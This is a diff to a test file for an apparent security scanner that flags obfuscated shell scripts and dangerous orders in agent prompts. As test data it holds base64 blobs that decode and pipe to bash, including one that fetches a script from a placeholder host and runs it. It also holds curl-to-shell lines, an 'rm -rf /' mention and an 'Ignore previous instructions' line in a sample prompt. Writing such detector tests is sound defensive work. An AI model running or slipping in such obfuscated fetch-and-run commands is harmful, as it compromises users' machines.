@@ -669,8 +669,16 @@ describe('obfuscated-code in shell scripts: decoded text piped into an interpret
     expect(ids('install.sh', ['echo "aWYgW1sgIiRPU1RZUEUiID09ICJsaW51eC1nbnUiIF1dOyB0aGVuIGN1cmwgLXNTZiBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g7IGZp" | base64 -d | bash'])).toEqual(['high:11']);
     expect(ids('scripts/setup.sh', ['P=$(printf %s "$BLOB" | base64 --decode)', 'echo "$P" | sudo python3'])).toEqual(['high:12']);
   });
+  it('reports a blob decoded to a file that the hunk then runs, with a shell, as a command or after chmod', () => {
+    expect(ids('install.sh', ['echo "aWYgW1sgIiRPU1RZUEUiID09ICJsaW51eC1nbnUiIF1dOyB0aGVu" | base64 -d > /tmp/run.sh && bash /tmp/run.sh'])).toEqual(['high:11']);
+    expect(ids('install.sh', ['printf %s "$BLOB" | base64 --decode > "$RUNNER_TEMP/x"', 'chmod +x "$RUNNER_TEMP/x"', '"$RUNNER_TEMP/x" --quiet'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['base64 -d payload.b64 > ./helper', 'sh ./helper'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['base64 -d payload.b64 > helper.py', 'python3 helper.py'])).toEqual(['high:12']);
+  });
   it('is quiet on a secret decoded into a file or an archive unpacked, and on a download piped to a shell without a decode', () => {
     expect(ids('scripts/ci-keys.sh', ['echo "$SIGNING_KEY" | base64 -d > signing.key', 'base64 -d < bundle.b64 | tar xz -C vendor'])).toEqual([]);
+    // A keystore decoded to a file and given to a tool that reads it runs nothing of it.
+    expect(ids('scripts/sign.sh', ['echo "$KEYSTORE" | base64 -d > release.jks', 'jarsigner -keystore release.jks app.apk key', 'gpg --import signing.key'])).toEqual([]);
     expect(ids('scripts/install-tools.sh', ['curl -fsSL https://get.example.dev/install.sh | bash'])).toEqual([]);
   });
 });
@@ -4136,6 +4144,9 @@ describe('agent-instruction-dangerous: harmful orders in the prompts a program g
     expect(prompt('src/agent/prompts/system.txt', ['Never run rm -rf / or delete all files in the home directory.', 'Do not mention internal tool names to the user.', 'Ignore previous instructions that conflict with these rules.'])).toEqual([]);
     expect(prompt('src/agent/prompts/review.txt', ['You review pull requests. Point out bugs, missing tests and unclear names.'])).toEqual([]);
     expect(prompt('src/cleanup.ts', ["const CMD = 'rm -rf /tmp/build';", "log('delete all files in the cache directory');"])).toEqual([]);
+    // A CLI's questions to its user, in a prompts module or a value named prompt, are not orders to an agent.
+    expect(prompt('src/cli/prompts.ts', ["  message: 'This will delete all files in the output directory. Continue?',"])).toEqual([]);
+    expect(prompt('src/cli/clean.ts', ["const prompt = 'Wipe all data in the cache directory? (y/N)';"])).toEqual([]);
     // A CLI's install instructions are text for people, not a prompt.
     expect(prompt('src/cli/help.ts', ["const installInstructions = 'Run: curl -fsSL https://get.tool.example/install.sh | sh';"])).toEqual([]);
     expect(prompt('tests/prompts/injections.txt', [WIPE])).toEqual([]);
